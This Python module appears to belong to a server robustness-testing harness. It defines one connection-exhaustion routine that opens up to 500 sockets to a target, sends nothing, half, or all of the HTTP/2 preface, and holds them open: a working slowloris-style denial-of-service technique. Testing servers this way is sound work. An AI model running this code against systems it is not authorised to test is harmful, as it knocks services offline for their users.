"""Connections that stay half open."""

import contextlib
import socket
import time

from ..attack import Strike, attack

__all__ = ["ATTACKS"]

_CONNECTIONS = "connections"

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


@attack(_CONNECTIONS)
def half_open_connections(strike: Strike) -> None:
    """500 connections that say nothing, half a preface, or a preface, and stay."""
    with contextlib.ExitStack() as held:
        for number in range(500):
            if not strike.left():
                break
            try:
                client = held.enter_context(socket.create_connection((strike.target.host, strike.target.port), 2))
                client.sendall((b"", _PREFACE[:12], _PREFACE)[number % 3])
                strike.answers.note("OPEN")
            except OSError as error:
                strike.answers.note("REFUSED", type(error).__name__)
        time.sleep(strike.left())


ATTACKS = (half_open_connections,)
